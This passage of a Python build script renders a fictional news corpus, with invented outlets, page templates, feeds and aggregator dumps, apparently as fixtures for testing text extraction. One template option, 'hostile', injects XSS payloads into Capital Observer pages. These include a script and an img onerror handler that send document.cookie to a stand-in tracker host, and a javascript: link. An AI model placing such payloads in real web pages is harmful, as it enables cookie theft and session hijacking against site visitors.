#!/usr/bin/env python3
"""Render the Dateline demo corpus from the article sources in demo/src/.

    python3 demo/tools/build.py

Reads demo/src/*.txt (articles, wire copies) and demo/src/dumps.txt (which
articles appear in which page dump) and writes:

    demo/pages/*.html     saved HTML pages, one layout per outlet
    demo/dumps/*.txt      aggregator page dumps in the two layouts of the seeds
    demo/feeds/*          RSS 2.0, Atom and JSON Feed files
    demo/manifest.json    ground truth for tests and benchmarks
    demo/README.md        description, tables and counts

Everything is deterministic: running it twice gives identical files.
All text is fictional and written for the project.
"""
import datetime as dt
import glob
import html
import json
import os
import re
import sys
import textwrap

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SRC = os.path.join(ROOT, "src")

OUTLETS = {
    "meridian": dict(name="Meridian Wire", domain="meridianwire.example", kind="wire agency", tz=0),
    "harbour": dict(name="The Harbour Courier", domain="harbourcourier.example", kind="regional daily (port city)", tz=-7),
    "northgate": dict(name="Northgate Times", domain="northgatetimes.example", kind="metropolitan daily", tz=-4),
    "valley": dict(name="Valley Ledger", domain="valleyledger.example", kind="small-town weekly/daily", tz=-5),
    "pacific": dict(name="Pacific Dispatch", domain="pacificdispatch.example", kind="regional news site", tz=-7),
    "capital": dict(name="Capital Observer", domain="capitalobserver.example", kind="politics and economy site", tz=-4),
    "riverside": dict(name="Riverside Daily", domain="riversidedaily.example", kind="local daily", tz=-5),
    "eastbrook": dict(name="Eastbrook Herald", domain="eastbrookherald.example", kind="English-language daily (Asia)", tz=9),
}
AGGREGATOR = "Dailyfold"


# ---------------------------------------------------------------- parsing

def parse_blocks(path):
    blocks = []
    cur = None
    in_body = False
    with open(path, encoding="utf-8") as fh:
        for raw in fh:
            line = raw.rstrip("\n")
            if line.startswith("@@ "):
                cur = dict(key=line[3:].strip(), _body=[], _file=os.path.basename(path))
                blocks.append(cur)
                in_body = False
                continue
            if cur is None:
                continue  # file comments before the first block
            if in_body:
                cur["_body"].append(line)
            elif line.strip() == "---":
                in_body = True
            elif line.strip():
                k, _, v = line.partition(":")
                cur[k.strip()] = v.strip()
    return blocks


def paragraphs(lines):
    out, buf = [], []
    for line in lines + [""]:
        if line.strip():
            buf.append(line.strip())
        elif buf:
            out.append(" ".join(buf))
            buf = []
    return out


def load_articles():
    blocks = []
    for path in sorted(glob.glob(os.path.join(SRC, "[0-9]*.txt"))):
        blocks += parse_blocks(path)
    arts = {}
    for b in blocks:
        if b["key"] in arts:
            sys.exit("duplicate key " + b["key"])
        arts[b["key"]] = b
    for b in blocks:
        if "copy_of" in b:
            orig = arts[b["copy_of"]]
            paras = list(orig["_paras"]) if "_paras" in orig else paragraphs(orig["_body"])
            b["story"] = orig["story"]
            b.setdefault("dateline", orig.get("dateline", ""))
            b.setdefault("deck", orig.get("deck", ""))
            drops = {int(x) for x in b.get("drop", "").replace(" ", "").split(",") if x}
            paras = [p for i, p in enumerate(paras, 1) if i not in drops]
            for pair in filter(None, b.get("replace", "").split(" || ")):
                old, _, new = pair.partition(" => ")
                hits = [i for i, p in enumerate(paras) if old in p]
                if not hits:
                    sys.exit("%s: replace target not found: %r" % (b["key"], old))
                paras[hits[0]] = paras[hits[0]].replace(old, new, 1)
            if b.get("prepend"):
                paras.insert(0, b["prepend"])
            if b.get("append"):
                paras.append(b["append"])
            b["_paras"] = paras
        else:
            b["_paras"] = paragraphs(b["_body"])
    for b in arts.values():
        b.setdefault("where", "page")
        b.setdefault("deck", "")
        b.setdefault("dateline", "")
        b["published_dt"] = dt.datetime.fromisoformat(b["published"].replace("Z", "+00:00"))
        o = OUTLETS[b["outlet"]]
        b["outlet_name"] = o["name"]
        b["slug"] = slugify(b["title"])
        b["url"] = canonical_url(b)
    return arts


def slugify(s):
    s = re.sub(r"\[[^\]]*\]", "", s)
    s = s.lower().replace("%", " percent").replace("$", "")
    s = re.sub(r"[^a-z0-9]+", "-", s).strip("-")
    return "-".join(s.split("-")[:9])


def canonical_url(a):
    d = OUTLETS[a["outlet"]]["domain"]
    p = a["published_dt"]
    sec = slugify(a.get("section", "news"))
    o = a["outlet"]
    num = 40000 + (sum(map(ord, a["key"])) * 37) % 9000
    if o == "meridian":
        return "https://%s/story/%s-%s" % (d, p.strftime("%Y%m%d"), a["slug"])
    if o == "harbour":
        return "https://%s/%s/%s/%s/" % (d, sec, p.strftime("%Y/%m/%d"), a["slug"])
    if o == "northgate":
        return "https://%s/%s/%s-%d" % (d, sec, a["slug"], num)
    if o == "valley":
        return "https://%s/news/%s/article_%d.html" % (d, a["slug"], num)
    if o == "pacific":
        return "https://%s/%s/%s" % (d, sec, a["slug"])
    if o == "capital":
        return "https://%s/%s/%s/%s" % (d, sec, p.strftime("%Y/%m"), a["slug"])
    if o == "riverside":
        return "https://%s/%s/%s/" % (d, p.strftime("%Y/%m/%d"), a["slug"])
    return "https://%s/view.php?ud=%s%06d" % (d, p.strftime("%Y%m%d"), num)


# ----------------------------------------------------------- text helpers

LINK = re.compile(r"\[\[([^\]]+)\]\]")


def plain(text):
    return LINK.sub(r"\1", text)


def body_paras(a):
    """Paragraphs with the dateline folded into the first one."""
    ps = list(a["_paras"])
    if a.get("dateline") and ps and not ps[0].startswith("## "):
        ps[0] = a["dateline"] + " — " + ps[0]
    return ps


def plain_text(a):
    out = []
    for p in body_paras(a):
        out.append(plain(p[3:] if p.startswith("## ") else p))
    return out


ABBREV = {"jan", "feb", "mar", "apr", "aug", "sept", "sep", "oct", "nov", "dec", "mr", "mrs", "ms", "dr",
          "gen", "adm", "lt", "col", "sgt", "gov", "rep", "reps", "sen", "st", "no", "co", "inc", "corp", "u.s",
          "a.m", "p.m", "jr", "sr", "vs", "e.g", "i.e"}


def first_sentence(text):
    """The first sentence, not fooled by "Aug. 12", "Adm. Choi", "4:15 p.m. Tuesday" or "3.5%"."""
    for m in re.finditer(r"[.!?][\"”’']?(?=\s+|$)", text):
        end = m.end()
        word = re.search(r"([\w.]+)[.!?][\"”’']?$", text[:end])
        if word and word.group(1).lower() in ABBREV:
            continue
        rest = text[end:].lstrip()
        if rest and not (rest[0].isupper() or rest[0] in "\"“‘'("):
            continue
        return text[:end]
    return text


def local_iso(a):
    tz = dt.timezone(dt.timedelta(hours=OUTLETS[a["outlet"]]["tz"]))
    return a["published_dt"].astimezone(tz).isoformat()


def human_date(a, fmt="%B %d, %Y %I:%M %p"):
    tz = dt.timezone(dt.timedelta(hours=OUTLETS[a["outlet"]]["tz"]))
    return a["published_dt"].astimezone(tz).strftime(fmt).replace(" 0", " ")


def esc(s):
    """Escape element text (quotes stay as typed, as most sites emit them)."""
    return html.escape(s, quote=False)


def attr(s):
    return html.escape(s, quote=True)


def html_inline(text, a):
    """Escape a paragraph and turn [[links]] into anchors on the outlet's site."""
    out, pos = [], 0
    for m in LINK.finditer(text):
        out.append(esc(text[pos:m.start()]))
        href = "https://%s/topic/%s" % (OUTLETS[a["outlet"]]["domain"], slugify(m.group(1)))
        out.append('<a href="%s">%s</a>' % (href, esc(m.group(1))))
        pos = m.end()
    out.append(esc(text[pos:]))
    return "".join(out)


# ------------------------------------------------------------ HTML pages

def jsonld(a, style="plain"):
    author = [{"@type": "Person", "name": n.strip()} for n in re.split(r" and |, (?=[A-Z][a-z]+ [A-Z])", a.get("byline", "")) if n.strip()]
    if not author or "Meridian Wire" == a.get("byline"):
        author = [{"@type": "Organization", "name": a.get("byline") or a["outlet_name"]}]
    art = {
        "@type": "NewsArticle",
        "headline": a["title"],
        "author": author if len(author) > 1 else author[0],
        "datePublished": local_iso(a),
        "dateModified": local_iso(a),
        "publisher": {"@type": "Organization", "name": a["outlet_name"],
                      "logo": {"@type": "ImageObject", "url": "https://%s/static/logo.png" % OUTLETS[a["outlet"]]["domain"]}},
        "mainEntityOfPage": {"@type": "WebPage", "@id": a["url"]},
        "url": a["url"],
        "articleSection": a.get("section", "News"),
        "inLanguage": "en",
        "description": first_sentence(plain_text(a)[0]),
    }
    if style == "graph":
        doc = {"@context": "https://schema.org", "@graph": [
            {"@type": "WebSite", "name": a["outlet_name"], "url": "https://%s/" % OUTLETS[a["outlet"]]["domain"]},
            dict(art)]}
    else:
        doc = dict({"@context": "https://schema.org"}, **art)
    return '<script type="application/ld+json">%s</script>' % json.dumps(doc, ensure_ascii=False, indent=1 if style == "graph" else None)


def meta_block(a, og=True, extra=""):
    desc = attr(first_sentence(plain_text(a)[0]))
    lines = [
        '<meta name="description" content="%s">' % desc,
        '<link rel="canonical" href="%s">' % a["url"],
    ]
    if og:
        lines += [
            '<meta property="og:type" content="article">',
            '<meta property="og:title" content="%s">' % attr(a["title"]),
            '<meta property="og:description" content="%s">' % desc,
            '<meta property="og:url" content="%s">' % a["url"],
            '<meta property="og:site_name" content="%s">' % attr(a["outlet_name"]),
            '<meta property="article:published_time" content="%s">' % local_iso(a),
            '<meta property="article:section" content="%s">' % attr(a.get("section", "News")),
            '<meta name="twitter:card" content="summary_large_image">',
        ]
    if a.get("byline"):
        lines.append('<meta name="author" content="%s">' % attr(a["byline"]))
    return "\n".join(lines + ([extra] if extra else []))


def paras_html(a, tag="p", ad_every=0, ad_html="", inserts=None):
    out = []
    n = 0
    ps = body_paras(a)
    total = sum(1 for p in ps if not p.startswith("## "))
    for i, p in enumerate(ps):
        if p.startswith("## "):
            out.append("<h2>%s</h2>" % html_inline(p[3:], a))
            continue
        inner = html_inline(p, a)
        if a.get("wrap"):  # a re-wrapped copy: hard line breaks inside the paragraph source
            inner = "\n".join(textwrap.wrap(inner, int(a["wrap"]), break_long_words=False, break_on_hyphens=False))
        out.append("<%s>%s</%s>" % (tag, inner, tag))
        n += 1
        if inserts and n in inserts:
            out.append(inserts[n])
        if ad_every and n % ad_every == 0 and n < total:
            out.append(ad_html)
    return "\n".join(out)


def related_li(items, cls=""):
    return "\n".join('<li%s><a href="%s">%s</a></li>' % (cls, r["url"], esc(r["title"])) for r in items)


def page_meridian(a, rel):
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{esc(a['title'])} - Meridian Wire</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
{meta_block(a)}
{jsonld(a)}
<link rel="stylesheet" href="/static/mw.css">
</head>
<body class="mw">
<header class="mw-top">
  <a class="mw-logo" href="https://meridianwire.example/">MERIDIAN WIRE</a>
  <nav><a href="/world">World</a> | <a href="/business">Business</a> | <a href="/markets">Markets</a> | <a href="/politics">Politics</a> | <a href="/tech">Technology</a> | <a href="/clients">For clients</a></nav>
  <form action="/search"><input name="q" placeholder="Search the wire"></form>
</header>
<div class="mw-ticker">MARKETS: Nikkei 225 ▲ 0.4% · S&amp;P 500 ▼ 0.2% · USD/JPY 147.3 · Brent $69.81</div>
<main>
<article class="wire-story">
<p class="mw-section">{esc(a.get('section', 'World'))}</p>
<h1>{esc(a['title'])}</h1>
<p class="mw-byline">By {esc(a.get('byline', 'Meridian Wire'))} · <time datetime="{local_iso(a)}">{human_date(a, '%B %d, %Y %H:%M GMT')}</time></p>
<div class="wire-text">
{paras_html(a)}
</div>
<p class="mw-credit">(Reporting by {esc(a.get('byline', 'Meridian Wire staff'))}; Editing by Ruth Ambler)</p>
<p class="mw-trust">Our Standards: The Meridian Wire Trust Principles.</p>
</article>
<aside class="mw-more">
<h2>More from Meridian Wire</h2>
<ul>
{related_li(rel)}
</ul>
</aside>
</main>
<footer class="mw-foot">
<p>© 2025 Meridian Wire. All rights reserved. Republication or redistribution of Meridian Wire content is expressly prohibited without prior written consent.</p>
<p><a href="/terms">Terms of use</a> · <a href="/privacy">Privacy</a> · <a href="/contact">Contact</a></p>
</footer>
</body>
</html>
"""


def page_harbour(a, rel):
    ad = '<div class="ad-slot" data-ad="inline"><span>Advertisement</span><div class="ad-box">Sandhaven Marine Supply — 20% off deck hardware this week</div></div>'
    news = ('<aside class="newsletter-box"><h4>The Morning Tide</h4><p>Port, city and business news in your inbox every weekday at 6 a.m.</p>'
            '<form><input type="email" placeholder="Your email"><button>Sign up</button></form></aside>')
    return f"""<!doctype html>
<html lang="en-CA">
<head>
<meta charset="UTF-8">
<title>{esc(a['title'])} | The Harbour Courier</title>
{meta_block(a)}
<meta property="og:image" content="https://harbourcourier.example/img/{a['slug']}.jpg">
{jsonld(a)}
</head>
<body>
<div id="cookie-consent" class="cookie-banner">We use cookies to improve your experience and to show you relevant advertising. <button>Accept all</button> <button>Manage preferences</button></div>
<header class="site-header">
<div class="masthead"><a href="/"><img src="/img/hc-logo.svg" alt="The Harbour Courier"></a><span class="weather">Sandhaven 17°C, fog</span></div>
<nav class="main-nav"><ul><li><a href="/news/">News</a></li><li><a href="/port-shipping/">Port &amp; Shipping</a></li><li><a href="/business/">Business</a></li><li><a href="/world/">World</a></li><li><a href="/opinion/">Opinion</a></li><li><a href="/sports/">Sports</a></li><li><a href="/subscribe/" class="btn">Subscribe</a></li></ul></nav>
</header>
<div class="container">
<div class="main-col">
<article class="story">
<div class="kicker"><a href="/{slugify(a.get('section', 'news'))}/">{esc(a.get('section', 'News'))}</a></div>
<h1 class="story-title">{esc(a['title'])}</h1>
<div class="byline">By <span class="author">{esc(a.get('byline', ''))}</span> <time datetime="{local_iso(a)}">{human_date(a)}</time></div>
<div class="share-bar"><a href="#" class="share fb">Share</a> <a href="#" class="share x">Post</a> <a href="#" class="share mail">Email</a> <a href="#" class="share print">Print</a></div>
<div class="article-body">
{paras_html(a, ad_every=3, ad_html=ad, inserts={2: news})}
</div>
</article>
<section class="related">
<h3>Related coverage</h3>
<ul class="related-list">
{related_li(rel)}
</ul>
</section>
<section id="comments" class="comments">
<h3>Comments (2)</h3>
<div class="comment"><b>harbourwatcher</b> <span class="when">2 hours ago</span><p>Been saying this for years. Nobody listens until the ships stop.</p><a href="#">Reply</a></div>
<div class="comment"><b>M. Laine</b> <span class="when">1 hour ago</span><p>Good reporting, thank you.</p><a href="#">Reply</a></div>
<form class="comment-form"><textarea placeholder="Join the discussion"></textarea><button>Post comment</button></form>
</section>
</div>
<aside class="sidebar">
<div class="ad-slot tall"><span>Advertisement</span></div>
<div class="most-read"><h4>Most read</h4><ol><li><a href="/news/">Ferry schedule changes for August</a></li><li><a href="/news/">Council approves seawall repairs</a></li><li><a href="/sports/">Mariners sign two-way forward</a></li></ol></div>
</aside>
</div>
<footer class="site-footer"><p>© 2025 The Harbour Courier, a division of Tidewater Media. <a href="/about/">About</a> · <a href="/contact/">Contact</a> · <a href="/privacy/">Privacy</a> · <a href="/terms/">Terms</a></p></footer>
</body>
</html>
"""


def page_northgate(a, rel):
    ps = body_paras(a)
    readmore = rel[0] if rel else None
    inserts = {}
    if readmore and len(ps) > 4:
        inserts[3] = '<p class="inline-link"><strong>READ MORE:</strong> <a href="%s">%s</a></p>' % (readmore["url"], esc(readmore["title"]))
    return f"""<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>{esc(a['title'])} – Northgate Times</title>
{meta_block(a)}
<meta name="byl" content="By {attr(a.get('byline', ''))}">
<meta name="pdate" content="{a['published_dt'].strftime('%Y%m%d')}">
</head>
<body>
<div id="page">
<div class="topbar"><span class="date">{human_date(a, '%A, %B %d, %Y')}</span> <a href="/login">Log in</a> <a href="/subscribe" class="sub">Subscribe for $1</a></div>
<div class="brand"><a href="/">Northgate Times</a></div>
<ul class="sections"><li><a href="/metro">Metro</a></li><li><a href="/politics">Politics</a></li><li><a href="/business">Business</a></li><li><a href="/world">World</a></li><li><a href="/tech">Tech</a></li><li><a href="/weather">Weather</a></li><li><a href="/obituaries">Obituaries</a></li></ul>
<div class="leaderboard">ADVERTISEMENT</div>
<div class="story">
<div class="headline-block">
<span class="section-label">{esc(a.get('section', 'News'))}</span>
<h1 itemprop="headline">{esc(a['title'])}</h1>
<div class="credit">By {esc(a.get('byline', ''))} | Published {human_date(a)} EDT</div>
</div>
<div class="story-text">
{paras_html(a, inserts=inserts)}
</div>
<div class="promo"><p>Support local journalism. <a href="/subscribe">Subscribe to the Northgate Times</a> for unlimited access.</p></div>
<div class="comments-link"><a href="#comments">Comments (14)</a></div>
</div>
<div class="rail">
<h3>Trending</h3>
<ul class="trending">
{related_li(rel)}
<li><a href="/metro/">Northgate transit fares to rise in September</a></li>
</ul>
<div class="ad">ADVERTISEMENT</div>
</div>
<div class="footer">Northgate Times · 1 Market Square, Northgate · Copyright © 2025 · <a href="/privacy">Privacy Policy</a> · <a href="/accessibility">Accessibility</a></div>
</div>
</body>
</html>
"""


def page_valley(a, rel, charset="utf-8"):
    body = []
    for p in body_paras(a):
        if p.startswith("## "):
            body.append("<b>%s</b><br><br>" % html_inline(p[3:], a))
        else:
            body.append("%s<br><br>" % html_inline(p, a))
    return f"""<html>
<head>
<meta charset="{charset}">
<title>{esc(a['title'])} :: Valley Ledger</title>
{meta_block(a, og=False, extra='<meta property="og:title" content="%s">%s<meta property="article:published_time" content="%s">' % (attr(a['title']), chr(10), local_iso(a)))}
</head>
<body bgcolor="#ffffff">
<table width="100%" cellpadding="0" cellspacing="0">
<tr><td colspan="2" class="banner"><a href="/"><img src="/images/vl_banner.gif" alt="Valley Ledger - Serving the Marrow Valley since 1911"></a></td></tr>
<tr><td colspan="2" class="navrow"><a href="/news/">Local News</a> &middot; <a href="/sports/">Sports</a> &middot; <a href="/obits/">Obituaries</a> &middot; <a href="/classifieds/">Classifieds</a> &middot; <a href="/eedition/">e-Edition</a> &middot; <a href="/weather/">Weather</a></td></tr>
<tr>
<td class="content" valign="top" width="70%">
<div id="content">
<h2 class="title">{esc(a['title'])}</h2>
<div class="meta">{esc(a.get('byline', 'Staff report'))} &mdash; Posted {human_date(a, '%m/%d/%Y')}</div>
<div class="storytext">
{chr(10).join(body)}
</div>
<div class="tools"><a href="javascript:window.print()">Print this story</a> | <a href="mailto:?subject=Valley%20Ledger">Email this story</a></div>
<div class="classified-box">CLASSIFIEDS: 2 BR apt. downtown, $850/mo. Call 555-0143. ~ Hay for sale, square bales. ~ Lost dog near Mill Road, answers to "Biscuit".</div>
</div>
</td>
<td class="sidebar" valign="top">
<div class="box"><b>Also in the news</b><br>
{'<br>'.join('<a href="%s">%s</a>' % (r['url'], esc(r['title'])) for r in rel)}
</div>
<div class="box ad">Advertisement<br>Marrow Valley Farm &amp; Feed - Open 7 days</div>
</td>
</tr>
<tr><td colspan="2" class="footer">Copyright &copy; 2025 Valley Ledger Publishing Co. All rights reserved. | 200 Main St., Alder Springs</td></tr>
</table>
</body>
</html>
"""


def page_pacific(a, rel):
    fig = ('<figure class="lead-image"><img src="https://pacificdispatch.example/media/%s.jpg" alt="">'
           '<figcaption>File photo. (Pacific Dispatch)</figcaption></figure>' % a["slug"])
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>{esc(a['title'])}</title>
{meta_block(a)}
{jsonld(a, style='graph')}
</head>
<body>
<a class="skip" href="#main">Skip to content</a>
<header role="banner"><div class="logo">Pacific<strong>Dispatch</strong></div>
<nav role="navigation" aria-label="Sections"><a href="/canada">Canada</a><a href="/asia-pacific">Asia-Pacific</a><a href="/business">Business</a><a href="/science">Science</a><a href="/tech">Tech</a><a href="/opinion">Opinion</a><a href="/podcasts">Podcasts</a></nav>
<button class="menu">Menu</button></header>
<div class="alert-bar">Get breaking news alerts on your phone. <a href="/app">Download the Pacific Dispatch app</a></div>
<main id="main">
<article>
<header>
<p class="eyebrow">{esc(a.get('section', 'News'))}</p>
<h1>{esc(a['title'])}</h1>
{('<p class="dek">%s</p>' % esc(a['deck'])) if a.get('deck') else ''}
<div class="author-line"><span>{esc(a.get('byline', ''))}</span> · <time datetime="{local_iso(a)}">{human_date(a, '%b. %d, %Y')}</time> · <span class="read-time">4 min read</span></div>
<ul class="share"><li><button>Copy link</button></li><li><button>Share on Facebook</button></li><li><button>Share on X</button></li><li><button>Share on LinkedIn</button></li></ul>
</header>
{fig}
<section class="body">
{paras_html(a, ad_every=4, ad_html='<div class="dfp-ad" aria-hidden="true">Advertisement - story continues below</div>')}
</section>
<footer class="article-foot"><p class="corrections">Spotted an error? <a href="/corrections">Tell us</a>.</p></footer>
</article>
<section class="comments"><h2>Join the conversation</h2><p>Comments are moderated and may take up to an hour to appear. <a href="/community-guidelines">Community guidelines</a></p><div class="comment-count">7 comments</div><button>Load comments</button></section>
<aside class="more-stories"><h2>More stories</h2>
<ul>
{related_li(rel, ' class="card"')}
</ul></aside>
</main>
<footer role="contentinfo"><div class="newsletter">Sign up for Dispatch Daily <input type="email"><button>Subscribe</button></div><p>© Pacific Dispatch Media 2025 · <a href="/about">About us</a> · <a href="/ethics">Ethics policy</a> · <a href="/privacy">Privacy</a> · <a href="/cookies">Cookie settings</a></p></footer>
</body>
</html>
"""


def page_capital(a, rel, hostile=False):
    pull = None
    for p in plain_text(a):
        m = re.search(r"(?:^|(?<=\s))[“\"](\w[^”\"]{40,160})[”\"]", p)
        if m:
            pull = m.group(1)
            break
    inserts = {}
    if pull:
        inserts[2] = '<blockquote class="pullquote">“%s”</blockquote>' % esc(pull.rstrip(",. "))
    if hostile:
        inserts[1] = ('<script>document.write("<iframe src=\\"https://tracker.example/px\\"></iframe>");fetch("https://tracker.example/c?"+document.cookie)</script>\n'
                      '<figure class="chart"><img src="/charts/missing-chart.png" onerror="alert(\'xss\');this.src=\'https://tracker.example/px.gif?\'+document.cookie" alt="Chart">'
                      '<figcaption onmouseover="steal()">Chart: Capital Observer</figcaption></figure>\n'
                      '<p class="embed"><a href="javascript:alert(1)" onclick="return track(this)">Open the interactive chart</a></p>\n'
                      '<iframe src="https://video.example/embed/991" onload="autoplay()"></iframe>')
    return f"""<!DOCTYPE html>
<html lang="en-US" class="no-js">
<head>
<meta charset="utf-8">
<title>{esc(a['title'])} | Capital Observer</title>
{meta_block(a)}
{jsonld(a)}
<script>window.dataLayer=window.dataLayer||[];dataLayer.push({{"pageType":"article","section":"{esc(a.get('section', 'News'))}"}});</script>
<script async src="https://ads.example/gpt.js"></script>
</head>
<body class="article-page">
<div class="paywall-banner">You have 3 free articles left this month. <a href="/subscribe">Subscribe</a> for $4.99/month.</div>
<div class="layout">
<header class="co-header"><a class="co-logo" href="/">Capital Observer</a>
<nav><ul><li><a href="/politics">Politics</a></li><li><a href="/economy">Economy</a></li><li><a href="/markets">Markets</a></li><li><a href="/tech">Tech</a></li><li><a href="/world">World</a></li><li><a href="/newsletters">Newsletters</a></li></ul></nav></header>
<main class="content">
<div class="content__head">
<a class="content__section" href="/{slugify(a.get('section', 'news'))}">{esc(a.get('section', 'News'))}</a>
<h1 class="headline">{esc(a['title'])}</h1>
{('<p class="standfirst">%s</p>' % esc(a['deck'])) if a.get('deck') else ''}
<p class="content__meta">{esc(a.get('byline', ''))} <span class="sep">|</span> <time datetime="{local_iso(a)}">{human_date(a)} ET</time></p>
</div>
<div class="content__body">
{paras_html(a, inserts=inserts)}
</div>
<div class="content__tags">Topics: <a href="/topic/{slugify(a['story'])}">{esc(a['story'].replace('-', ' ').title())}</a></div>
<section class="read-next"><h2>Read next</h2>
{''.join('<div class="card"><a href="%s"><h3>%s</h3></a></div>' % (r['url'], esc(r['title'])) for r in rel)}
</section>
<section class="comments" id="comments"><h2>Comments</h2><p>Comments are open to subscribers. <a href="/login">Log in</a> to join the discussion.</p></section>
</main>
<aside class="rail"><div class="ad-unit" id="ad-rail-1">Advertisement</div><div class="newsletter-signup"><h3>The Observer Briefing</h3><p>What matters in politics and the economy, before breakfast.</p><input type="email"><button>Sign up</button></div></aside>
</div>
<footer class="co-footer">© 2025 Capital Observer LLC · <a href="/masthead">Masthead</a> · <a href="/privacy">Privacy</a> · <a href="/terms">Terms</a> · <a href="/do-not-sell">Do not sell my data</a></footer>
<script>(function(){{var s=document.createElement('script');s.src='https://metrics.example/m.js';document.body.appendChild(s)}})();</script>
</body>
</html>
"""


def page_riverside(a, rel):
    return f"""<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" />
<title>{esc(a['title'])} &#8211; Riverside Daily</title>
{meta_block(a)}
<meta name="generator" content="WordPress 6.5.2" />
<link rel="shortlink" href="https://riversidedaily.example/?p={sum(map(ord, a['key'])) * 7}" />
</head>
<body class="post-template-default single single-post rd">
<div id="wrapper">
<header id="masthead" class="site-header">
<div class="site-branding"><p class="site-title"><a href="https://riversidedaily.example/" rel="home">Riverside Daily</a></p><p class="site-description">News for the Marrow River country</p></div>
<div class="weather-widget">Riverside · 88°F · Partly cloudy</div>
<nav id="site-navigation" class="main-navigation"><ul id="primary-menu" class="menu"><li><a href="/category/local/">Local</a></li><li><a href="/category/business/">Business</a></li><li><a href="/category/schools/">Schools</a></li><li><a href="/category/sports/">Sports</a></li><li><a href="/category/opinion/">Opinion</a></li><li><a href="/e-edition/">E-Edition</a></li></ul></nav>
</header>
<div id="content" class="site-content">
<div id="primary" class="content-area">
<main id="main" class="site-main">
<article id="post-{sum(map(ord, a['key'])) * 7}" class="post type-post status-publish format-standard hentry">
<header class="entry-header">
<span class="cat-links"><a href="/category/{slugify(a.get('section', 'local'))}/" rel="category tag">{esc(a.get('section', 'Local'))}</a></span>
<h1 class="entry-title">{esc(a['title'])}</h1>
<div class="entry-meta"><span class="posted-on">Posted on <time class="entry-date published" datetime="{local_iso(a)}">{human_date(a, '%B %d, %Y')}</time></span> <span class="byline">by <span class="author vcard">{esc(a.get('byline', 'Staff'))}</span></span></div>
</header>
<div class="entry-content">
{paras_html(a, ad_every=5, ad_html='<div class="wp-block-ad">ADVERTISEMENT</div>')}
</div>
<footer class="entry-footer"><div class="sharedaddy"><h3 class="sd-title">Share this:</h3><ul><li><a href="#">Facebook</a></li><li><a href="#">X</a></li><li><a href="#">Email</a></li></ul></div></footer>
</article>
<div class="jp-relatedposts"><h3 class="jp-relatedposts-headline">You may also like</h3>
<ul>
{related_li(rel)}
</ul></div>
<div id="comments" class="comments-area"><h2 class="comments-title">3 thoughts on &ldquo;{esc(a['title'])}&rdquo;</h2>
<ol class="comment-list"><li class="comment"><div class="comment-author">Bev R.</div><div class="comment-content"><p>Stay safe everyone out on the river road.</p></div></li><li class="comment"><div class="comment-author">Tom Hadley</div><div class="comment-content"><p>Where was the county on this last year?</p></div></li><li class="comment"><div class="comment-author">riverrat52</div><div class="comment-content"><p>Thanks for keeping us posted.</p></div></li></ol>
<div id="respond"><h3>Leave a Reply</h3><form><textarea></textarea><input type="submit" value="Post Comment"></form></div></div>
</main>
</div>
<aside id="secondary" class="widget-area"><section class="widget"><h2 class="widget-title">Obituaries</h2><ul><li>Harold Emmons, 84</li><li>June Pratt, 91</li></ul></section><section class="widget ad">ADVERTISEMENT</section></aside>
</div>
<footer id="colophon" class="site-footer"><div class="site-info">&copy; 2025 Riverside Daily &middot; Proudly local since 1958</div></footer>
</div>
</body>
</html>
"""


def page_eastbrook(a, rel):
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{esc(a['title'])}</title>
{meta_block(a)}
<meta name="news_keywords" content="{attr(a['story'])}">
{jsonld(a)}
</head>
<body>
<div class="eh-wrap">
<div class="eh-gnb"><a href="/" class="eh-logo">THE EASTBROOK HERALD</a><ul><li><a href="/national">National</a></li><li><a href="/business">Business</a></li><li><a href="/world">World</a></li><li><a href="/opinion">Opinion</a></li><li><a href="/life">Life&amp;Culture</a></li></ul></div>
<div class="eh-view" itemscope itemtype="https://schema.org/NewsArticle">
<h1 class="view_tit" itemprop="headline">{esc(a['title'])}</h1>
<div class="view_info"><span class="date">Published : {human_date(a, '%b. %d, %Y - %H:%M')}</span> <span class="writer" itemprop="author">{esc(a.get('byline', ''))}</span></div>
<div class="view_con" itemprop="articleBody">
{paras_html(a)}
</div>
<div class="view_copy">&lt;ⓒThe Eastbrook Herald. All rights reserved&gt;</div>
</div>
<div class="eh-related"><h3>Most Popular</h3><ul>{related_li(rel)}</ul></div>
</div>
</body>
</html>
"""


TEMPLATES = dict(meridian=page_meridian, harbour=page_harbour, northgate=page_northgate, valley=page_valley,
                 pacific=page_pacific, capital=page_capital, riverside=page_riverside, eastbrook=page_eastbrook)


# ------------------------------------------------------------------ dumps

def rel_age(as_of, published):
    secs = int((as_of - published).total_seconds())
    if secs < 0:
        sys.exit("article published after dump reference time")
    mins = secs // 60
    if mins < 60:
        return "a minute ago" if mins <= 1 else "%d minutes ago" % mins
    hours = mins // 60
    if hours < 24:
        return "an hour ago" if hours == 1 else "%d hours ago" % hours
    days = hours // 24
    return "a day ago" if days == 1 else "%d days ago" % days


def link_broken_lines(text):
    """Render a paragraph the way the aggregator dumps do: a line break before
    every inline link, a stray space after it ("China , both", "Trump' s")."""
    out = []
    pos = 0
    s = ""
    for m in LINK.finditer(text):
        s += text[pos:m.start()]
        out.append(s.rstrip())
        s = m.group(1)
        rest = text[m.end():]
        if rest.startswith("'s") or rest.startswith("’s"):
            s += rest[0] + " s"
            pos = m.end() + 2
        elif rest[:1] in (",", ".", ";", ":"):
            s += " " + rest[0]
            pos = m.end() + 1
        else:
            pos = m.end()
    s += text[pos:]
    out.append(s)
    return [l for l in out if l != ""]


def dump_body_lines(a, breaks):
    lines = []
    for p in body_paras(a):
        if p.startswith("## "):
            lines.append(plain(p[3:]))
        elif breaks:
            lines.extend(link_broken_lines(p))
        else:
            lines.append(plain(p))
    return lines


def one_line(a, advert=False, with_title=False):
    ps = plain_text(a)
    if with_title:  # the aggregator glued the headline onto the first sentence
        ps = [a["title"] + " " + ps[0]] + ps[1:]
    if advert and len(ps) > 1:
        ps = [ps[0], "Advertisement"] + ps[1:]
    s = " ".join(ps)
    if a.get("deck"):
        s = a["deck"] + " " + s
    return s


def render_dump(d, arts):
